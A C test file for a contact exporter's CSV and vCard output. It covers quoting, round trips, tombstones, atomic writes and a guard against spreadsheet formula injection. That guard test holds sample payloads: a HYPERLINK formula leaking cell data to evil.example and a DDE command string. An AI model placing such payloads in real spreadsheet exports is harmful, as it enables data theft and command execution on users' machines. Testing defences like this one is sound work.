/* Tests for appliance/io/exporter.c: the CSV header and quoting, the
 * formula guard and raw cells, tombstones
 * and metadata, the atomic file write, vCard output, and the round trip
 * that matters most: an export imported into a fresh database gives the
 * same records (ids and every field value), with awkward text included. */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "db.h"
#include "exporter.h"
#include "importer.h"
#include "store.h"
#include "store_fixture.h"
#include "testlib.h"

static json_t *add(struct store *s, const char *json)
{
    json_error_t jerr;
    json_t *in = json_loads(json, 0, &jerr);
    if (!in) {
        fprintf(stderr, "bad test JSON: %s\n", jerr.text);
        exit(1);
    }
    json_t *out = NULL;
    struct op_error err;
    int rc = store_create(s, &entity_contact, in, STORE_SKIP_DUP_CHECK, &out, &err);
    if (rc < 0)
        fprintf(stderr, "create %s: %s\n", json, err.msg);
    CHECK_EQ(rc, 0);
    json_decref(in);
    return out;
}

static char *export_str(struct store *s, const struct exporter_opts *o, uint64_t *n)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    struct op_error err;
    int rc = exporter_run(s, f, o, n, &err);
    if (rc < 0)
        fprintf(stderr, "export: %s\n", err.msg);
    CHECK_EQ(rc, 0);
    fclose(f);
    return buf;
}

/* Every record as {id: record without the stamps}, for comparing stores. */
static int collect(void *ctx, json_t *rec)
{
    json_t *copy = json_deep_copy(rec);
    json_object_del(copy, "version");
    json_object_del(copy, "created_at");
    json_object_del(copy, "updated_at");
    json_object_set_new(ctx, json_string_value(json_object_get(rec, "id")), copy);
    return 0;
}

static json_t *all_records(struct store *s)
{
    json_t *all = json_object();
    CHECK_EQ(store_each(s, &entity_contact, 0, collect, all, NULL), 0);
    return all;
}

static void populate(struct store *s)
{
    json_decref(add(s, "{\"given_name\": \"Jos\u00e9\", \"family_name\": \"M\u00fcller, Jr.\","
                       " \"email\": \"jose@example.com\", \"country\": \"de\","
                       " \"custom\": {\"tier\": \"gold\", \"note\": \"says \\\"hi\\\", twice\"}}"));
    json_decref(
        add(s, "{\"given_name\": \"\u0410\u043d\u043d\u0430\", \"family_name\":"
               " \"\u041f\u0435\u0442\u0440\u043e\u0432\u0430\", \"street\":"
               " \"line one\\r\\nline two\\nline three\", \"locality\": \"\u0141\u00f3d\u017a\","
               " \"restricted\": true, \"custom\": {\"lead source\": \" spaced \"}}"));
    json_decref(add(s, "{\"given_name\": \"\u674e\", \"family_name\": \"\u5c0f\u9f8d\","
                       " \"phone\": \"+86 10 1234 5678\", \"language\": \"zh-CN\","
                       " \"job_title\": \"\\\"Boss\\\"\", \"birth_date\": \"1970-01-01\"}"));
    json_decref(add(s, "{\"given_name\": \"\u0930\u093e\u091c\u0947\u0936\", \"family_name\":"
                       " \"\u0936\u0930\u094d\u092e\u093e\", \"postal_code\": \"110001\","
                       " \"region\": \"Delhi, NCT\", \"country\": \"IN\"}"));
    json_decref(add(s, "{\"email\": \"only@example.com\", \"custom\": {\"tier\": \"\"}}"));
}

static void test_round_trip(void)
{
    struct store *a = fx_store_next();
    populate(a);
    for (int meta = 0; meta <= 1; meta++) {
        /* raw cells: the formula guard would put a quote before the phone */
        struct exporter_opts o = {.with_meta = meta, .raw_cells = 1};
        uint64_t n = 0;
        char *csv = export_str(a, &o, &n);
        CHECK_EQ(n, 5);

        struct store *b = fx_store_next();
        FILE *in = fmemopen(csv, strlen(csv), "r");
        struct importer_opts io = {.name = "export.csv"};
        struct importer_result res;
        struct op_error err;
        int rc = importer_run(b, in, &io, &res, &err);
        if (rc < 0)
            fprintf(stderr, "re-import: %s\n", err.msg);
        CHECK_EQ(rc, 0);
        CHECK_EQ(res.imported, 5);
        fclose(in);

        json_t *ra = all_records(a), *rb = all_records(b);
        CHECK_EQ(json_object_size(rb), 5);
        const char *id;
        json_t *rec;
        json_object_foreach(ra, id, rec)
        {
            json_t *other = json_object_get(rb, id);
            if (!json_equal(rec, other)) {
                char *x = json_dumps(rec, JSON_SORT_KEYS), *y = json_dumps(other, JSON_SORT_KEYS);
                CHECK_STR(y, x);
                free(x);
                free(y);
            }
        }
        json_decref(ra);
        json_decref(rb);

        /* and exporting the copy gives the same bytes, stamps aside */
        if (!meta) {
            char *again = export_str(b, &o, NULL);
            CHECK_STR(again, csv);
            free(again);
        }
        store_close(b);
        free(csv);
    }
    store_close(a);
}

static void test_header_and_quoting(void)
{
    struct store *s = fx_store_next();
    json_decref(add(s, "{\"given_name\": \"A, B\", \"family_name\": \"Q\\\"uote\","
                       " \"custom\": {\"zeta\": \"z\", \"alpha\": \" lead\"}}"));
    uint64_t n;
    struct exporter_opts o = {0};
    char *csv = export_str(s, &o, &n);
    CHECK_EQ(n, 1);
    const char *want_header = "id,owner_id,restricted,given_name,family_name,email,phone,street,"
                              "locality,region,postal_code,country,language,job_title,birth_date,"
                              "custom.alpha,custom.zeta\r\n";
    CHECK(strncmp(csv, want_header, strlen(want_header)) == 0);
    if (strncmp(csv, want_header, strlen(want_header)))
        fprintf(stderr, "got: %s\n", csv);
    CHECK_CONTAINS(csv, ",false,\"A, B\",\"Q\"\"uote\",,,,,,,,,,,\" lead\",z\r\n");
    /* one header line and one record line, each CRLF-terminated */
    size_t crlf = 0;
    for (const char *p = csv; (p = strstr(p, "\r\n")); p += 2)
        crlf++;
    CHECK_EQ(crlf, 2);
    free(csv);

    o.with_meta = 1;
    csv = export_str(s, &o, NULL);
    CHECK_CONTAINS(csv, ",custom.alpha,custom.zeta,version,created_at,updated_at,deleted\r\n");
    CHECK_CONTAINS(csv, ",1,");
    CHECK_CONTAINS(csv, "Z,false\r\n");
    free(csv);
    store_close(s);
}

/* A text cell a spreadsheet would run as a formula is written quoted with
 * a single quote in front, unless raw cells were asked for; cells made
 * from numbers are not text and stay as they are. */
static void test_formula_guard(void)
{
    struct store *s = fx_store_next();
    json_decref(add(s, "{\"given_name\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1)\","
                       " \"family_name\": \"@SUM(1+1)*cmd|' /C calc'!A0\","
                       " \"phone\": \"+49 30 1234567\", \"job_title\": \"-12\","
                       " \"locality\": \"Bonn\","
                       " \"custom\": {\"note\": \"+1\", \"plain\": \"a=b\"}}"));
    struct exporter_opts o = {0};
    char *csv = export_str(s, &o, NULL);
    CHECK_CONTAINS(csv, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",");
    CHECK_CONTAINS(csv, ",\"'@SUM(1+1)*cmd|' /C calc'!A0\",");
    CHECK_CONTAINS(csv, ",\"'+49 30 1234567\",");
    CHECK_CONTAINS(csv, ",\"'-12\",");
    CHECK_CONTAINS(csv, ",Bonn,");
    CHECK_CONTAINS(csv, ",\"'+1\",a=b\r\n");
    CHECK(strstr(csv, ",=") == NULL && strstr(csv, ",@") == NULL && strstr(csv, ",+") == NULL &&
          strstr(csv, ",-") == NULL);
    free(csv);

    o.raw_cells = 1;
    csv = export_str(s, &o, NULL);
    CHECK_CONTAINS(csv, ",\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",");
    CHECK_CONTAINS(csv, ",@SUM(1+1)*cmd|' /C calc'!A0,");
    CHECK_CONTAINS(csv, ",+49 30 1234567,");
    CHECK_CONTAINS(csv, ",-12,");
    CHECK_CONTAINS(csv, ",+1,a=b\r\n");
    free(csv);

    /* a negative amount is a number the exporter wrote, not typed text */
    json_t *in = json_pack("{s:s, s:I, s:s}", "title", "=Refund", "amount_minor", (json_int_t)-1200,
                           "currency", "EUR");
    struct op_error err;
    CHECK_EQ(store_create(s, &entity_deal, in, 0, NULL, &err), 0);
    json_decref(in);
    struct exporter_opts d = {.entity = &entity_deal};
    csv = export_str(s, &d, NULL);
    CHECK_CONTAINS(csv, ",\"'=Refund\",");
    CHECK_CONTAINS(csv, ",-1200,EUR,");
    free(csv);
    store_close(s);
}

static void test_empty_and_deleted(void)
{
    struct store *s = fx_store_next();
    uint64_t n = 99;
    struct exporter_opts o = {0};
    char *csv = export_str(s, &o, &n);
    CHECK_EQ(n, 0);
    CHECK(strncmp(csv, "id,owner_id,", 12) == 0);
    CHECK_EQ(strlen(csv), (size_t)(strstr(csv, "\r\n") - csv) + 2); /* the header only */
    free(csv);

    json_t *keep = add(s, "{\"given_name\": \"Keep\"}");
    json_t *drop = add(s, "{\"given_name\": \"Drop\", \"custom\": {\"only_deleted\": \"x\"}}");
    struct op_error err;
    CHECK_EQ(store_delete(s, &entity_contact, json_string_value(json_object_get(drop, "id")), 1,
                          NULL, &err),
             0);
    csv = export_str(s, &o, &n);
    CHECK_EQ(n, 1);
    CHECK(strstr(csv, "Drop") == NULL);
    CHECK(strstr(csv, "only_deleted") == NULL); /* keys of excluded records: no column */
    free(csv);

    o.include_deleted = 1;
    o.with_meta = 1;
    csv = export_str(s, &o, &n);
    CHECK_EQ(n, 2);
    CHECK_CONTAINS(csv, "Drop");
    CHECK_CONTAINS(csv, "custom.only_deleted");
    CHECK_CONTAINS(csv, ",2,"); /* the tombstone's version */
    CHECK_CONTAINS(csv, ",true\r\n");

    /* re-importing an export with tombstones skips them */
    struct store *b = fx_store_next();
    FILE *in = fmemopen(csv, strlen(csv), "r");
    struct importer_result res;
    CHECK_EQ(importer_run(b, in, NULL, &res, &err), 0);
    CHECK_EQ(res.imported, 1);
    CHECK_EQ(res.skipped_deleted, 1);
    fclose(in);
    json_t *got = NULL;
    CHECK_EQ(store_get(b, &entity_contact, json_string_value(json_object_get(keep, "id")), 0, &got,
                       &err),
             0);
    json_decref(got);
    store_close(b);
    free(csv);
    json_decref(keep);
    json_decref(drop);
    store_close(s);
}

static void test_to_file(void)
{
    struct store *s = fx_store_next();
    populate(s);
    char sub[320], out[360];
    snprintf(sub, sizeof sub, "%s/out", fx_dir);
    CHECK_EQ(mkdir(sub, 0700), 0);
    snprintf(out, sizeof out, "%s/contacts.csv", sub);

    /* an old file is replaced as a whole */
    FILE *old = fopen(out, "w");
    fputs("old content\n", old);
    fclose(old);
    uint64_t n = 0;
    struct op_error err;
    struct exporter_opts o = {0};
    CHECK_EQ(exporter_to_file(s, out, &o, &n, &err), 0);
    CHECK_EQ(n, 5);
    struct stat st;
    CHECK_EQ(stat(out, &st), 0);
    CHECK_EQ(st.st_mode & 0777, 0600);
    CHECK_EQ(fx_count_entries(sub), 1); /* no temp file left */
    char *expect = export_str(s, &o, NULL);
    char *got = calloc(1, (size_t)st.st_size + 1);
    FILE *f = fopen(out, "r");
    CHECK_EQ(fread(got, 1, (size_t)st.st_size, f), (size_t)st.st_size);
    fclose(f);
    CHECK_STR(got, expect);
    free(got);
    free(expect);

    /* a directory that does not exist: an error naming the path, no file */
    char missing[400];
    snprintf(missing, sizeof missing, "%s/nope/contacts.csv", fx_dir);
    CHECK_EQ(exporter_to_file(s, missing, &o, &n, &err), -ENOENT);
    CHECK_CONTAINS(err.msg, missing);
    CHECK(access(missing, F_OK) != 0);

    unlink(out);
    rmdir(sub);
    store_close(s);
}

static void test_vcard(void)
{
    struct store *s = fx_store_next();
    populate(s);
    struct exporter_opts o = {.format = EXPORTER_VCARD};
    uint64_t n = 0;
    char *v = export_str(s, &o, &n);
    CHECK_EQ(n, 5);
    int begins = 0;
    for (const char *p = v; (p = strstr(p, "BEGIN:VCARD")); p++)
        begins++;
    CHECK_EQ(begins, 5);
    CHECK_CONTAINS(v, "VERSION:4.0");
    free(v);

    struct op_error err;
    o.entity = &entity_organization;
    FILE *f = fopen("/dev/null", "w");
    CHECK_EQ(exporter_run(s, f, &o, &n, &err), -EINVAL);
    CHECK_CONTAINS(err.msg, "contacts only");
    fclose(f);
    store_close(s);
}

static void test_write_failure(void)
{
    struct store *s = fx_store_next();
    populate(s);
    FILE *f = fopen("/dev/full", "w");
    if (!f) {
        fprintf(stderr, "skipping: no /dev/full\n");
        store_close(s);
        return;
    }
    setvbuf(f, NULL, _IONBF, 0);
    struct exporter_opts o = {0};
    struct op_error err;
    int rc = exporter_run(s, f, &o, NULL, &err);
    CHECK_EQ(rc, -ENOSPC);
    CHECK_CONTAINS(err.msg, "cannot write the export");
    fclose(f);
    store_close(s);
}

int main(void)
{
    fx_tmpdir("exporter");
    RUN(test_round_trip);
    RUN(test_header_and_quoting);
    RUN(test_formula_guard);
    RUN(test_empty_and_deleted);
    RUN(test_to_file);
    RUN(test_vcard);
    RUN(test_write_failure);
    return fx_finish();
}
